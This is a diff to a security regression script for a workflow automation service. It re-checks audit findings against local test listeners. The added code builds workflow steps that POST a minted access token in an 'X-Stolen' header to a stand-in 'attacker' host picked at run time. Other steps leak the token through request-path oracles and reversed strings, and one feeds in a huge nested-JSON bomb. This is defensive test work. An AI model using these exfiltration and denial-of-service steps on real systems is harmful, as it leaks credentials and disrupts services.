@@ -9,6 +9,9 @@
 #     cmd/vigil-load/review4.sh
 # ADMIN defaults to .vigil/admin.key, WORKER_METRICS to 127.0.0.1:9565, TEMPORAL to bin/temporal.
 # KEEP=1 keeps the work directory (every answer, and what the listeners received) and prints it.
+# Exit status 0 when no finding reproduces and the stack still serves, 1 otherwise. "API peak RSS +N"
+# is the growth of the API process's VmHWM (its peak since start), so it reads 0 once an earlier
+# request went higher.
 #
 # It starts its own listeners on 127.0.0.1:18180 (the "legitimate" host; /token mints
 # AT-SECRETDERIVED-<12 hex>) and 127.0.0.1:18181 (the "attacker"), which log every request, and
@@ -297,20 +300,40 @@ oracle = [TOKEN] + [{"name": nm, "method": "GET", "for_each": items(ps),
 b = workflow(WFW, "rv4-when-oracle", oracle, "agent_only")
 if b[0] == 201:
     wait_run(data(execute(WFW, data(b)["uuid"]))["run_uuid"], WFREAD)
+# The host decided at run time (the save cannot see it): approved, the run's taint must still refuse it.
+launder_url = launder[:2] + [{"name": "exfil", "method": "POST", "url": "{{indicator.value}}", "headers": {"X-Stolen": "{{steps.launder.result}}"}}]
+lu_body = {"name": f"rv4-launder-url-{RUN}", "indicator_types": ["url"], "state": "active", "approval_mode": "always", "steps": launder_url}
+lu_wfw = lu = http("POST", "/v1/workflows", WFW, lu_body)
+if lu[0] != 201:  # refused to a non-admin: an admin saves it, so that the run's own guard is what is tested
+    lu = http("POST", "/v1/workflows", ADMIN, lu_body)
+lu_run = {}
+if lu[0] == 201:
+    x = data(http("POST", f'/v1/workflows/{data(lu)["uuid"]}/execute', WFW, {"indicator_type": "url", "indicator_value": f"http://127.0.0.1:18181/launder-url-{RUN}"})) or {}
+    if x.get("approval_request_uuid"):
+        http("POST", f'/v1/workflow-approvals/{x["approval_request_uuid"]}/approve', APPR, {"comment": "review4"})
+    lu_run = wait_run(x.get("run_uuid"), WFREAD) if x.get("run_uuid") else {}
+lu_exfil = next((st for st in lu_run.get("steps") or [] if "exfil" in json.dumps(st)[:200]), {})
+# The documented residual (docs/SECURITY.md "Code steps and decisions"): a `when` oracle in a run a person approved.
+oa_status, oa_run = approved_run("rv4-when-oracle-approved", [TOKEN] + [dict(st, url=st["url"].replace(f"/o-{RUN}/", f"/oa-{RUN}/")) for st in oracle[1:]])
+residual = "".join(h["path"].split("/")[-1] for h in sorted(hits(lambda h: f"/oa-{RUN}/" in h["path"]), key=lambda h: int(h["path"].split("/")[-2])))
 mask = [TOKEN, {"name": "output", "kind": "code", "code": "def main(ctx):\n    t = ctx[\"st\" + \"eps\"][\"token\"][\"response\"][\"access_token\"]\n    return {\"rev\": t[::-1], \"chars\": [c for c in t.elems()]}\n"}]
 c = workflow(WFW, "rv4-mask", mask, "agent_only")
 c_status, c_run = approved_run("rv4-mask-approved", mask)
 c_text = json.dumps(http("GET", f'/v1/workflow-runs/{c_run.get("uuid")}', WFREAD)[1]) if c_run else ""
 c_leak = any(t in c_text or t[::-1] in c_text or t[-12:] in c_text or json.dumps(list(t))[1:-1] in c_text for t in minted())
 spelled = "".join(h["path"].split("/")[-1] for h in sorted(hits(lambda h: f"/o-{RUN}/" in h["path"]), key=lambda h: int(h["path"].split("/")[-2])))
-att = hits(lambda h: h["port"] == 18181 and RUN in h["path"] and ("/launder" in h["path"] or "/o-" in h["path"]))
+att = hits(lambda h: h["port"] == 18181 and RUN in h["path"] and ("/launder" in h["path"] or f"/o-{RUN}/" in h["path"]))
+att += hits(lambda h: h["path"] == f"/launder-url-{RUN}")
 repro = any(leaked(h) for h in att) or c_leak or bool(spelled)
 verdict("R4-1", repro,
         f"launder agent_only save {err(a)}; same steps `always`+approved save {a2_status}, run {a2_run.get('status')}, exfil step "
         f"{(a2_exfil[0].get('status') if a2_exfil else '-')} {str((a2_exfil[0].get('error') if a2_exfil else ''))[:80]!r}; "
         f"when-oracle agent_only save {err(b)}; mask agent_only save {err(c)}, `always`+approved run {c_run.get('status')}, "
         f"result {json.dumps(c_run.get('result'))[:60]}, token in record: {c_leak}; :18181 got {len(att)} launder/oracle requests, "
-        f"{sum(leaked(h) for h in att)} carrying the token; oracle spelled {spelled!r}")
+        f"{sum(leaked(h) for h in att)} carrying the token; oracle spelled {spelled!r}; exfil host from the indicator (`always`, approved): "
+        f"WFW save {err(lu_wfw)}, admin save {err(lu)}, WFW execute + APPR approve: run {lu_run.get('status')}, exfil {str(lu_exfil.get('error'))[:110]!r}; "
+        f"[documented residual, not counted: the `when` oracle saved `always` {oa_status}, approved, run {oa_run.get('status')}, "
+        f"spelled {residual!r} at :18181, token part {[t[-12:] for t in minted() if t[-12:] == residual] or 'no match'}]")
 
 # ---- R4-2: json.decode("[" * 3000000) in a code step (worker run, then API dry run)
 bomb = [{"name": "bomb", "kind": "code", "code": "def main(ctx):\n    return json.decode(\"[\" * 3000000)\n"}]
@@ -380,7 +403,7 @@ for label, code in progs.items():
     grow = (after[1] - before[1]) if None not in (before[1], after[1]) else None
     repro |= success or took > 5 or (grow is not None and grow > 200)
     rows.append(f"{label}: {d[0]} success={success} in {took:.2f}s ({why.group(0)[:50] if why else '-'}), API peak RSS +{grow} MB")
-verdict("R4-4", repro, "; ".join(rows) + f" (API RSS now {rss(PID)[0]} MB)")
+verdict("R4-4", repro, "; ".join(rows) + f" (API RSS now {rss(PID)[0]} MB, its peak since start {rss(PID)[1]} MB)")
 
 # ---- R4-5: a gated run started straight on Temporal with gated:false
 g = workflow(WFW, "rv4-gated-secret", [{"name": "act", "method": "POST", "url": f"http://127.0.0.1:18180/gated-secret-step-{RUN}",
@@ -598,4 +621,5 @@ for kid in (RW_ID, INGEST_ID, INGEN_ID, WFW_ID, EXEC_ID, WFREAD_ID, APPR_ID) + (
 ok, why = alive()
 print(f"stack after the pass: {why}")
 print(f"summary: {sum('REPRODUCES' in l for l in results)} of {len(results)} findings reproduce")
+sys.exit(1 if any("REPRODUCES" in l for l in results) or not ok else 0)
 PY
